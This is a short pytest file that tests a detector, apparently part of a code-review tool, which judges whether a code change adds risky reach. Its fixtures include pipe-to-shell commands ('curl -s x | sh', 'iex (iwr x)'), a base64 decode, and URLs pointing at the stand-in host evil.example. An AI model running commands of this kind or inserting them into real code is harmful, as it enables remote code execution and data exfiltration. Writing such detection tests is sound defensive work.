from __future__ import annotations

import pytest

from reviewer.judgement.reach import goes_further


@pytest.mark.parametrize(
    ("replacement", "original"),
    [
        ("curl -s x | sh", "run()"),
        ("os.system('wget x')", "os.system('ls')"),
        ("cat install.sh |\\\n  sudo bash", "cat install.sh"),
        ("echo aGk= | base64 -d", "echo hi"),
        ("iex (iwr x)", "x"),
        ("get('https://evil.example/')", "get('https://shop.io/')"),
        ("url = 'HTTPS://user:pw@Evil.example:443/x'", "url = ''"),
        ("a 'https://shop.io' b 'ssh://evil.example'", "a 'https://shop.io' b"),
    ],
)
def test_what_was_not_there_before(replacement: str, original: str) -> None:
    assert goes_further(replacement, original)


@pytest.mark.parametrize(
    ("replacement", "original"),
    [
        ("get('https://shop.io/v2')", "get('http://SHOP.io/v1')"),
        ("curl --fail https://shop.io | sh", "curl https://shop.io | sh"),
        ("a | b", "a"),
        ("flags = x | shift", "flags = x"),
        ("total = sum(x)", "total = x"),
    ],
)
def test_what_was_there_already_or_is_nothing_of_that_kind(replacement: str, original: str) -> None:
    assert not goes_further(replacement, original)
